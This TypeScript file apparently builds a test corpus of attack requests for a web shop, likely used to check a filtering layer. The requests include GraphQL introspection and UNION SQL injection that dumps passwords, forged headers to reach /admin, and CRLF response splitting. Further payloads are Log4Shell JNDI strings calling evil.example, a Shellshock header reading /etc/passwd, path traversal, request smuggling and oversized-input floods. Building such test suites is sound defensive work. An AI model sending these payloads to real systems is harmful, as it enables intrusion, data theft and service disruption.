// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the payloads are what other languages take for placeholders.
import { createAuthor, type Draft, encode } from "./draft.ts";

/** The query language, forged headers, odd methods, long paths and broken protocol. */
export function surfaceAttacks(): Draft[] {
  return [...graphql(), ...forgedHeaders(), ...methods(), ...longPaths(), ...protocol()];
}

function graphql(): Draft[] {
  const { get, json, send } = createAuthor("graphql");
  const rows = { oracle: "hidden-rows", expectDirect: 200 } as const;
  const dump = { oracle: "schema-dump", expectDirect: 200 } as const;
  const deep = `{ products ${"{ id products ".repeat(9)}{ id }${" }".repeat(9)} }`;
  const aliases = Array.from({ length: 40 }, (_, index) => `a${index}: users { email password }`).join(" ");
  return [
    json("/graphql", { query: "{ __schema { queryType { name } types { name fields { name } } } }" }, dump),
    json("/graphql", { query: "query IntrospectionQuery { __schema { types { kind name description } directives { name } } }" }, dump),
    json("/graphql", { query: '{ __type(name: "User") { name fields { name } } }' }, dump),
    get(`/graphql?query=${encode("{__schema{types{name}}}")}`, dump),
    send("POST", "/graphql", "{ __schema { types { name } } }", { ...dump, headers: { "content-type": "application/graphql" } }),
    json("/graphql", { query: "{ users { id email password role } }" }, rows),
    json("/graphql", { query: "query q { everyone: users { mail: email secret: password } }" }, rows),
    json("/graphql", { query: '{ product(id: "0 UNION SELECT 1,secret,3,4,5 FROM vault") { name } }' }, rows),
    json("/graphql", { query: '{ product(id: "1 OR id>80") { id name price } }' }, rows),
    json(
      "/graphql",
      { query: '{ products(category: "x\' UNION SELECT id,email,name,4,password FROM users--") { name description } }' },
      rows,
    ),
    json(
      "/graphql",
      { query: "query p($id: ID) { product(id: $id) { name } }", variables: { id: "0 UNION SELECT 1,secret,3,4,5 FROM vault" } },
      rows,
    ),
    json("/graphql", [{ query: "{ products { id } }" }, { query: "{ users { email } }" }], rows),
    json("/graphql", { query: `{ ${aliases} }` }, rows),
    json("/graphql", { query: "{ ...f } fragment f on Query { users { email } }" }, { expectDirect: 200 }),
    json("/graphql", { query: deep }, { expectDirect: 200 }),
    json(
      "/graphql",
      Array.from({ length: 60 }, () => ({ query: "{ products { id name } }" })),
      { expectDirect: 200 },
    ),
    json("/graphql", { query: "{ usrs { emial } }" }, { expectDirect: 200 }),
  ];
}

function forgedHeaders(): Draft[] {
  const { get, send } = createAuthor("header");
  const admin = { oracle: "admin-page", expectDirect: 200 } as const;
  const withField = (name: string, value: string) => get("/admin", { ...admin, headers: { [name]: value } });
  return [
    withField("x-forwarded-for", "127.0.0.1"),
    withField("x-forwarded-for", "10.0.0.5, 127.0.0.1"),
    withField("x-forwarded-for", "::1"),
    withField("x-real-ip", "127.0.0.1"),
    withField("x-client-ip", "127.0.0.1"),
    withField("true-client-ip", "127.0.0.1"),
    withField("x-originating-ip", "127.0.0.1"),
    withField("forwarded", "for=127.0.0.1;proto=https"),
    withField("cookie", "role=admin"),
    withField("cookie", "lang=en; admin=1"),
    get("/", { ...admin, headers: { "x-original-url": "/admin" } }),
    get("/products", { ...admin, headers: { "x-rewrite-url": "/admin" } }),
    get("/admin?debug=true", admin),
    get("/ADMIN/?debug=true", admin),
    get("/%61dmin?debug=true", admin),
    get("/redirect?to=/%0d%0aSet-Cookie:%20sid=31337", { oracle: "split-response", proof: "sid=31337", expectDirect: 302 }),
    get("/redirect?to=/products%0aX-Injected:%20yes-31338", { oracle: "split-response", proof: "yes-31338", expectDirect: 302 }),
    get("/redirect?to=%2f%0D%0ALink:%20%3C//evil.example/31339%3E", { oracle: "split-response", proof: "31339", expectDirect: 302 }),
    get("/", { headers: { "x-api-version": "${jndi:ldap://evil.example/a}" }, expectDirect: 200 }),
    get("/", { headers: { "user-agent": "${${lower:j}ndi:${lower:l}dap://evil.example/b}" }, expectDirect: 200 }),
    get("/cgi-bin/test-cgi", {
      headers: { "user-agent": "() { :;}; echo; /bin/cat /etc/passwd" },
      oracle: "exposed-file",
      expectDirect: 200,
    }),
    send("POST", "/api/products/1", "{}", {
      headers: { "content-type": "application/json", "x-http-method-override": "DELETE" },
      expectDirect: 405,
    }),
    get("/", { headers: { "x-forwarded-host": "evil.example", "x-forwarded-proto": "javascript" }, expectDirect: 200 }),
    get("/", { headers: { referer: `http://${"a".repeat(6000)}.example/` }, expectDirect: 200 }),
    get("/", { headers: Object.fromEntries(Array.from({ length: 160 }, (_, index) => [`x-fill-${index}`, "1"])), expectDirect: 200 }),
    get("/", { headers: { accept: `text/html,${"a/b,".repeat(1500)}*/*` }, expectDirect: 200 }),
  ];
}

function methods(): Draft[] {
  const { send } = createAuthor("method");
  const json = { headers: { "content-type": "application/json" } };
  return [
    send("PUT", "/api/products/1", '{"price_cents":1}', { ...json, expectDirect: 405 }),
    send("DELETE", "/api/products/1", null, { expectDirect: 405 }),
    send("PATCH", "/api/products/1", '{"price_cents":1}', { ...json, expectDirect: 405 }),
    send("PUT", "/uploads/note.html", "<script>alert(52001)</script>", { expectDirect: 201, headers: { "content-type": "text/html" } }),
    send("PUT", "/uploads/note2.txt", "hello", { expectDirect: 201 }),
    send("DELETE", "/reviews?product=1", null, { expectDirect: 405 }),
    send("DELETE", "/account", null, { expectDirect: 405 }),
    send("TRACE", "/", null, { oracle: "echoed-request", expectDirect: 200, headers: { cookie: "sid=stolen-by-script" } }),
    send("TRACE", "/account", null, { oracle: "echoed-request", expectDirect: 200, headers: { authorization: "Basic c2hvcDpzaG9w" } }),
    send("TRACE", "/products?category=books", null, { oracle: "echoed-request", expectDirect: 200, from: "chrome" }),
    send("PROPFIND", "/", '<?xml version="1.0"?><propfind xmlns="DAV:"><allprop/></propfind>', {
      expectDirect: 405,
      headers: { depth: "1" },
    }),
    send("PROPFIND", "/uploads/", null, { expectDirect: 405, headers: { depth: "1" } }),
    send("MKCOL", "/uploads/folder", null, { expectDirect: 405 }),
    send("MOVE", "/uploads/welcome.txt", null, { expectDirect: 405, headers: { destination: "/uploads/welcome.php" } }),
    send("COPY", "/uploads/welcome.txt", null, { expectDirect: 405, headers: { destination: "/uploads/welcome2.txt" } }),
    send("LOCK", "/products", null, { expectDirect: 405 }),
    send("SEARCH", "/", null, { expectDirect: 405 }),
    send("PURGE", "/products", null, { expectDirect: 405 }),
    send("REPORT", "/api/products", null, { expectDirect: 405 }),
    send("PATCH", "/graphql", '{"query":"{ users { email } }"}', { ...json, expectDirect: 405 }),
  ];
}

function longPaths(): Draft[] {
  const { get } = createAuthor("long-path");
  return [
    get(`/${"a".repeat(4000)}`, { expectDirect: 404 }),
    get(`/${"a/".repeat(1500)}`, { expectDirect: 404 }),
    get(`/${"../".repeat(1200)}etc/passwd`, { expectDirect: 404 }),
    get(`/products?category=${"x".repeat(7000)}`, { expectDirect: 200 }),
    get(`/search?${Array.from({ length: 900 }, (_, index) => `q${index}=1`).join("&")}`, { expectDirect: 200 }),
    get(`/${"%2e".repeat(2000)}`, { expectDirect: 404 }),
    get(`/product/${"9".repeat(3000)}`, { expectDirect: 404 }),
  ];
}

function protocol(): Draft[] {
  const { get, send } = createAuthor("protocol");
  const raw = (record: Draft, ...fields: readonly (readonly [string, string])[]): Draft => ({
    ...record,
    raw_headers: [...Object.entries(record.headers), ...fields],
  });
  const form = "email=a%40b.example&password=c";
  return [
    get("http://shop.example/admin?debug=true", { oracle: "admin-page", expectDirect: 200 }),
    get("http://127.0.0.1:6379/", { expectDirect: 200 }),
    get("//admin//?debug=true", { oracle: "admin-page", expectDirect: 200 }),
    get("/./admin/.?debug=true", { oracle: "admin-page", expectDirect: 200 }),
    get("/products/..;/admin?debug=true", { expectDirect: 200, oracle: "admin-page" }),
    get("/admin;jsessionid=1?debug=true", { oracle: "admin-page", expectDirect: 200 }),
    get("/product/%00", { expectDirect: 500 }),
    get("/product/1%", { expectDirect: 500 }),
    get("/product/%ff%fe", { expectDirect: 500 }),
    get("/caf\u00e9/\u00ff\u00fe", { encoding: "latin-1", expectDirect: 404 }),
    get("/%u0061dmin?debug=true", { expectDirect: 404 }),
    raw(
      send("POST", "/login", form),
      ["content-type", "application/x-www-form-urlencoded"],
      ["content-length", "30"],
      ["transfer-encoding", "chunked"],
    ),
    raw(send("POST", "/login", form), ["content-length", "30"], ["content-length", "5"]),
    raw(send("POST", "/login", form), ["content-length", "-1"]),
    raw(send("POST", "/login", form), ["transfer-encoding", "chunked, identity"]),
    raw(get("/"), ["x bad name", "1"]),
    raw(get("/"), ["x-bad-value", "a\u0000b"]),
    raw(get("/"), ["host", "shop.example"], ["host", "evil.example"]),
    raw(get("/static/shop.css"), ["range", `bytes=${Array.from({ length: 300 }, (_, index) => `${index}-`).join(",")}`]),
    raw(get("/"), ["cookie", `a=${"b".repeat(20_000)}`]),
  ];
}
